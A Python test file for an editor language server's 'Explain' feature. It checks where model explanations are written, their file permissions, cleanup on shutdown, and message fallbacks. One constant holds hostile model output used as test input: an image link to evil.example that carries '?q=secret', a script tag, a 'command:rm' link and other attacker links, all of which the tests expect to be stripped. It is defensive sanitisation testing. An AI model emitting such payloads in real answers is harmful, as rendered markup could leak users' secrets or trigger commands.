"""Where an explanation is read in an editor that streams nothing, and that nothing of a model's markup gets there."""

from __future__ import annotations

import asyncio
import signal
import stat
from collections.abc import AsyncIterator
from pathlib import Path
from urllib.parse import unquote

import pytest
import pytest_asyncio
from lsprotocol import types
from scenario import messages, until
from server import Stage, pick, stage

from editor import Editor

pytestmark = pytest.mark.asyncio(loop_scope="module")
SRC = "def mean(xs):\n    return sum(xs) / len(xs)\n"
BAD = """\
`mean` averages.

![x](https://evil.example/?q=secret) <img src=//evil.example> [click](command:rm) [read](https://evil.example/a)
<script>alert(1)</script> <https://evil.example> https://evil.example/b [r][1]

[1]: https://evil.example/c
"""


@pytest_asyncio.fixture(scope="module", loop_scope="module", name="s")
async def _shared(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Stage]:
    """One server for all tests that need nothing special of theirs."""
    async with stage(tmp_path_factory.mktemp("explain")) as s:
        yield s


async def explain(s: Stage, name: str, reply: str) -> None:
    """Explain a function of this name, which nobody has asked about, and be told this."""
    text = SRC.replace("mean", name)
    buffer = s.editor.open(s.write(f"{name}.py", text), "python")
    s.upstream.says(reply)
    await s.editor.run(pick(await s.editor.menu(buffer, 0), "Explain"))


def read(s: Stage) -> Path:
    """Return the file that was opened last."""
    return Path(unquote(s.editor.seen.documents[-1].removeprefix("file://")))


def text_of(path: Path) -> str:
    return path.read_text(encoding="utf-8")


def left(home: Path) -> list[str]:
    return [path.name for path in (home / "cache" / "tuppence").glob("explanations-*")]


async def test_it_is_a_file_of_the_user_s_own_and_cleaned(s: Stage) -> None:
    await explain(s, "mean", BAD)
    path = read(s)
    assert path.name == "Explain-mean.md"
    assert path.is_relative_to(s.home / "cache" / "tuppence")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    text = path.read_text(encoding="utf-8")
    assert text.startswith("# Explain `mean`\n\n`mean` averages.")
    # A bare address may stand as code; nothing is a link, an image or a tag.
    for gone in ("![", "](", "<img", "<script", "command:", "<https"):
        assert gone not in text, gone
    assert "`https://evil.example/b`" in text
    assert messages(s)[-1].startswith("Explained `mean`: small")


async def test_the_file_is_named_for_what_it_explains(s: Stage) -> None:
    buffer = s.editor.open("untitled:1", "javascript", "const größe$ = (xs) => {\n  return xs.map(x => x)\n}\n")
    s.upstream.says("`größe$` maps 😀.")
    await s.editor.run(pick(await s.editor.menu(buffer, 8), "Explain"))
    assert read(s).name == "Explain-größe.md"
    assert "😀" in read(s).read_text(encoding="utf-8")


@pytest.mark.parametrize("end", ["exit", "SIGTERM", "stdin closed"])
async def test_the_files_go_when_the_server_does(tmp_path: Path, end: str) -> None:
    async with stage(tmp_path) as s:
        await explain(s, "mean", "`mean` averages.")
        assert read(s).exists()
        process = s.editor.client._server
        assert process is not None
        if end == "SIGTERM":
            process.send_signal(signal.SIGTERM)
        elif end == "stdin closed":
            assert process.stdin is not None
            process.stdin.close()
        if end != "exit":
            await asyncio.wait_for(process.wait(), 60)
            assert left(s.home) == []
    assert left(s.home) == []


async def test_an_editor_that_opens_no_files_gets_a_message(tmp_path: Path) -> None:
    def silent(editor: Editor) -> None:
        assert editor.capabilities.window is not None
        editor.capabilities.window.show_document = None

    async with stage(tmp_path, before=silent) as s:
        await explain(s, "mean", "`mean` averages.")
        # In one message: in an echo area of one message two would replace each other.
        (only,) = messages(s)
        assert only == "`mean` averages.\n\nExplained `mean`: small, <$0.0001 (mentions the code)."
        assert left(s.home) == []
        # A long one is cut in the message, and the message says where all of it is.
        await explain(s, "long", "".join(f"The step {number} of `long`. " for number in range(120)))
        shown = next(each for each in messages(s) if "The step 0" in each)
        path = Path(shown.split("\n\n")[1].removesuffix(" has the rest."))
        assert "The step 119 of `long`" in text_of(path)
        assert s.editor.seen.documents == []


async def test_an_explanation_is_not_lost_where_it_cannot_be_written(tmp_path: Path) -> None:
    async with stage(tmp_path) as s:
        (s.home / "cache").mkdir(parents=True, exist_ok=True)
        (s.home / "cache" / "tuppence").write_text("in the way")
        await explain(s, "mean", "`mean` averages.")
        assert messages(s)[0].startswith("`mean` averages.\n\n")
        await explain(s, "long", "".join(f"The step {number} of `long`. " for number in range(120)))
        assert next(each for each in messages(s) if "The step 0" in each).split("\n\n")[1] == "The rest is in the log."
        assert "The step 119 of `long`" in s.editor.seen.logs[-1]
        assert s.editor.seen.documents == []


async def test_an_editor_that_does_not_open_the_file_gets_the_message_after_all(tmp_path: Path) -> None:
    async with stage(tmp_path) as s:

        async def refuse(_params: types.ShowDocumentParams) -> types.ShowDocumentResult:
            return types.ShowDocumentResult(success=False)

        s.editor.client.protocol.fm.features[types.WINDOW_SHOW_DOCUMENT] = refuse
        await explain(s, "mean", "`mean` averages.")
        await until(lambda: any(each.startswith("`mean` averages.\n\n") for each in messages(s)))
